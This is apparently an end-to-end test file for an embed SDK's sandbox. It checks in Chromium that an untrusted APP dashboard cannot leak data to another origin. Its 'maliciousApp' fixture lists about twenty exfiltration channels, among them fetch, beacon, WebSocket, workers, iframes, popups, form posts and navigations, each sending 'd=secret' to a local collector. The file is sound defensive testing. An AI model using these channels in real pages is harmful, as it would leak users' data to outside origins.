import { createServer } from 'node:http';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type * as Sdk from '../packages/embed-sdk/src/index.js';
import { demoRows } from '../apps/server/test/warehouse.js';
import { hasChromium, launchChromium } from './browser.js';
import { bundle, demoDashboardItems, e2eAccount, openHostPage, serve, startSvc } from './embed-harness.js';
import type { RunningSvc } from './embed-harness.js';

type HostWindow = Window & { sdk: typeof Sdk; loaded: number; getSessionId(): Promise<string> };

const HOST_PAGE = `<!doctype html><html><body style="margin:0">
<div id="embed" style="width:1000px;height:800px"></div>
<script type="module">
  import * as sdk from '/sdk.js';
  window.sdk = sdk;
  window.loaded = 0;
  window.getSessionId = async () => (await (await fetch('/session', { method: 'POST' })).json()).sessionId;
  window.ready = true;
</script></body></html>`;

/** The navigations an app can start in its own frame, each of which would carry `d=secret` to another origin. */
const NAVIGATIONS: Record<string, string> = {
  'location-href': "location.href = c + '/location-href?d=secret';",
  'location-assign': "location.assign(c + '/location-assign?d=secret');",
  'location-replace': "location.replace(c + '/location-replace?d=secret');",
  'window-location': "window.location = c + '/window-location?d=secret';",
  'open-self': "window.open(c + '/open-self?d=secret', '_self');",
  'anchor': "const a = document.createElement('a'); a.href = c + '/anchor?d=secret'; document.body.append(a); a.click();",
  'meta-refresh': "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + c + '/meta-refresh?d=secret'; document.head.append(m);",
  'blank-child-navigates-app': "const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.Function('parent.location.href = ' + JSON.stringify(c + '/via-child?d=secret'))();",
};

/**
 * A malicious APP dashboard: it tries every way a page has to send data to another origin without leaving its
 * document, each with its own marker in the URL; then it asks the bridge for data (a legitimate app still works)
 * and, once answered, starts the navigation `navigation` (if any), which would replace its document.
 */
function maliciousApp(collector: string, navigation: string | undefined): string {
  const ws = collector.replace(/^http/, 'ws');
  return `
const c = ${JSON.stringify(collector)};
const tried = [];
const attempt = (name, run) => { try { run(); tried.push(name); } catch (e) { tried.push(name + ':threw'); } };
attempt('fetch', () => fetch(c + '/fetch?d=secret').catch(() => undefined));
attempt('image', () => { new Image().src = c + '/image?d=secret'; });
attempt('written-image', () => { document.body.insertAdjacentHTML('beforeend', '<img src="' + c + '/written-image?d=secret">'); });
attempt('css-url', () => { document.body.style.backgroundImage = 'url(' + c + '/css-url?d=secret)'; });
attempt('stylesheet', () => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = c + '/stylesheet?d=secret'; document.head.append(l); });
attempt('prefetch', () => { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = c + '/prefetch?d=secret'; document.head.append(l); });
attempt('beacon', () => navigator.sendBeacon(c + '/beacon?d=secret', 'secret'));
attempt('websocket', () => new WebSocket(${JSON.stringify(ws)} + '/websocket?d=secret'));
attempt('event-source', () => new EventSource(c + '/event-source?d=secret'));
attempt('worker', () => new Worker(c + '/worker?d=secret'));
attempt('blob-worker', () => new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(c + '/blob-worker?d=secret') + ')'], { type: 'text/javascript' }))));
attempt('nested-frame', () => { const f = document.createElement('iframe'); f.src = c + '/nested-frame?d=secret'; document.body.append(f); });
attempt('blank-child-navigates-itself', () => { const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.location.href = c + '/blank-child?d=secret'; });
attempt('object', () => { const o = document.createElement('object'); o.data = c + '/object?d=secret'; document.body.append(o); });
attempt('popup', () => window.open(c + '/popup?d=secret'));
attempt('form-post', () => {
  const f = document.createElement('form'); f.method = 'post'; f.action = c + '/form-post?d=secret';
  const i = document.createElement('input'); i.name = 'd'; i.value = 'secret'; f.append(i); document.body.append(f); f.submit();
});
svc.query({ measures: ['orders.count'] }).then((r) => {
  document.getElementById('count').textContent = String(r.rows[0][0]);
  document.getElementById('tried').textContent = tried.join(',');
  ${navigation === undefined ? '' : `setTimeout(() => { try { ${NAVIGATIONS[navigation]} } catch (e) { document.getElementById('nav').textContent = 'threw ' + e.name; } }, 100);`}
}, (e) => { document.getElementById('count').textContent = 'failed: ' + e.message; });
`;
}

const appItem = (collector: string, publicId: string, navigation?: string) => ({
  ref: `wb-${publicId}`, type: 'WORKBOOK', name: publicId, createdBy: 'alice',
  dashboard: {
    publicId, status: 'published', allowEmbed: true, title: publicId,
    config: { kind: 'APP', app: { html: `<p id="count">…</p><p id="tried"></p><p id="nav"></p><script>${maliciousApp(collector, navigation)}</script>` } },
  },
});

const suite = hasChromium ? describe : describe.skip;

/**
 * Issue 18 (an independent probe's finding 3): an APP dashboard's code runs in svc's app frame with no way to send
 * data anywhere. A second local origin, the collector, counts every request it gets: it must get none.
 */
suite('the APP sandbox in Chromium', () => {
  let host: Server;
  let hostOrigin: string;
  let collector: Server;
  const received: string[] = [];
  let svc: RunningSvc;
  let browser: Awaited<ReturnType<typeof launchChromium>>;
  const { orders } = demoRows();

  beforeAll(async () => {
    collector = createServer((request, response) => {
      received.push(`${request.method} ${request.url}`);
      response.writeHead(200, { 'content-type': 'text/plain', 'access-control-allow-origin': '*' }).end('collected');
    });
    await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', () => resolve()));
    const collectorOrigin = `http://127.0.0.1:${(collector.address() as AddressInfo).port}`;
    const started = await serve({
      '/': { type: 'text/html', body: HOST_PAGE },
      '/sdk.js': { type: 'text/javascript', body: await bundle('packages/embed-sdk/src/index.ts') },
      '/session': async () => ({ type: 'application/json', body: JSON.stringify({ sessionId: await svc.mint() }) }),
    });
    host = started.server;
    hostOrigin = `http://localhost:${started.port}`;
    const apps = [appItem(collectorOrigin, 'evil-app'), ...Object.keys(NAVIGATIONS).map((name) => appItem(collectorOrigin, `evil-${name}`, name))];
    svc = await startSvc({ account: e2eAccount([hostOrigin], { items: [...demoDashboardItems(), ...apps] }) });
    browser = await launchChromium();
    browser.context.setDefaultTimeout(10_000);
  }, 60_000);

  afterAll(async () => {
    await browser?.close();
    await svc?.close();
    host?.close();
    collector?.close();
  });

  async function mountApp(publicId: string): Promise<{ page: Page; app: () => Frame | undefined }> {
    const page = await openHostPage(browser.context, `${hostOrigin}/`);
    await page.evaluate(async ({ baseUrl, publicId }) => {
      const w = window as unknown as HostWindow;
      const handle = w.sdk.embed({ container: document.getElementById('embed')!, baseUrl, getSessionId: w.getSessionId, surface: 'dashboard', publicId });
      handle.on('dashboard-loaded', () => { w.loaded++; });
      await handle.ready;
    }, { baseUrl: svc.origin, publicId });
    return { page, app: () => page.frames().find((f) => f.url().endsWith('/embed/app-frame')) };
  }

  it('sends nothing to another origin by requests, frames, popups or forms, and the bridge still answers', async () => {
    const { page, app } = await mountApp('evil-app');
    await expect.poll(() => page.evaluate(() => (window as unknown as HostWindow).loaded), { timeout: 15_000 }).toBe(1);
    // The bridge's answer arrives after every attempt was made (they run before the query is sent).
    await expect.poll(() => app()?.locator('#count').innerText(), { timeout: 15_000 }).toBe(String(orders.length));
    expect((await app()!.locator('#tried').innerText()).split(',')).toEqual(expect.arrayContaining(['fetch', 'beacon', 'nested-frame', 'popup', 'form-post']));
    // Every attempt was made before the bridge's round trip to svc and back began; a request the browser decided
    // to make is on the wire within a few event-loop turns. One bounded second more covers a slow machine.
    await page.waitForTimeout(1000);
    expect(received).toEqual([]);
    expect(app()?.url(), 'the app frame is still svc\'s app frame').toMatch(/\/embed\/app-frame$/);
    await page.close();
  });

  it.each(Object.keys(NAVIGATIONS))('refuses the app frame\'s own navigation by %s before any request leaves', async (navigation) => {
    const { page, app } = await mountApp(`evil-${navigation}`);
    const appFrame = await (async () => {
      await expect.poll(() => app()?.locator('#count').innerText(), { timeout: 15_000 }).toBe(String(orders.length));
      return app()!;
    })();
    // The navigation starts once the bridge answered; the frame then commits whatever the browser made of it
    // (Chromium's error page when the parent's frame-src refused it, the collector's answer had it gone through),
    // or the attempt throws at once (a frame of another opaque origin cannot be scripted) and says so.
    const navigated = page.waitForEvent('framenavigated', { predicate: (frame) => frame === appFrame, timeout: 10_000 }).then(() => 'navigated');
    const threw = appFrame.locator('#nav').filter({ hasText: /^threw / }).waitFor({ timeout: 10_000 }).then(() => 'threw');
    const outcome = await Promise.any([navigated, threw]);
    if (outcome === 'navigated') expect(appFrame.url()).not.toContain('/embed/app-frame');
    expect(received.filter((line) => line.includes(`/${navigation === 'blank-child-navigates-app' ? 'via-child' : navigation}?`))).toEqual([]);
    expect(received).toEqual([]);
    await page.close();
  });
});
